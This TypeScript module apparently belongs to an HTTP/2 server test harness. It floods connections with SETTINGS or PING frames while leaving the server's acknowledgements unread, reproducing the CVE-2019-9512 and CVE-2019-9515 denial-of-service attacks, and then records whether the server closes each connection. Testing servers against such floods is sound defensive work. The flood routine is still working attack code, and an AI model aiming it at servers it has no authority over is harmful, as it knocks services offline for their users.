import { once } from "node:events";
import { openRawH2 } from "./h2-connection.js";
import { pingFrame, SettingId, settingsFrame } from "./h2-frames.js";
import { within } from "./within.js";

/** Options of `controlFrameFlood`. */
export interface ControlFrameFloodOptions {
  readonly port: number;
  readonly localAddress: string;
  /** SETTINGS frames (each one the server must acknowledge) or PINGs (each one answered). */
  readonly kind: "settings" | "ping";
  readonly connections: number;
  /** Frames per socket write. */
  readonly framesPerWrite: number;
  /** Frames written per connection at most. */
  readonly maxFrames: number;
  /** How long after its last write a connection may stay open before it counts as not closed. */
  readonly closeWithinMs: number;
}

/** What happened to one flooding connection. */
export interface FloodedConnection {
  readonly framesWritten: number;
  /** True when the server closed it; false when it was still open `closeWithinMs` after the flood. */
  readonly closedByServer: boolean;
  /** Error codes of the GOAWAY frames it got. */
  readonly goAwayCodes: readonly number[];
}

/**
 * Floods connections with SETTINGS or PING frames in big writes without reading the server's
 * acknowledgements (the socket is paused, so they pile up in the server's output queue: the
 * "ping flood" and "settings flood" of CVE-2019-9512 and CVE-2019-9515), then reads again and
 * waits for the server to close the connection.
 */
export async function controlFrameFlood(
  options: ControlFrameFloodOptions,
): Promise<FloodedConnection[]> {
  const frame =
    options.kind === "settings"
      ? settingsFrame([[SettingId.INITIAL_WINDOW_SIZE, 65_535]])
      : pingFrame(Buffer.from("flooding"));
  const batch = Buffer.concat(Array.from({ length: options.framesPerWrite }, () => frame));
  const floodOne = async (): Promise<FloodedConnection> => {
    const connection = await openRawH2({
      port: options.port,
      localAddress: options.localAddress,
      answerControlFrames: false,
    });
    const { socket } = connection;
    socket.pause();
    let closed = false;
    void connection.closed.then(() => {
      closed = true;
    });
    let framesWritten = 0;
    while (!closed && framesWritten < options.maxFrames) {
      framesWritten += options.framesPerWrite;
      if (!socket.write(batch)) {
        // A server that stops reading leaves the flood stuck here until it closes or time is up.
        await within(
          Promise.race([once(socket, "drain").catch(() => {}), connection.closed]),
          options.closeWithinMs,
        );
        if (socket.writableNeedDrain) break;
      }
    }
    socket.resume();
    await within(connection.closed, options.closeWithinMs);
    const closedByServer = closed;
    socket.destroy();
    await connection.closed;
    return {
      framesWritten,
      closedByServer,
      goAwayCodes: connection.goAways.map((goAway) => goAway.errorCode),
    };
  };
  return Promise.all(Array.from({ length: options.connections }, floodOne));
}
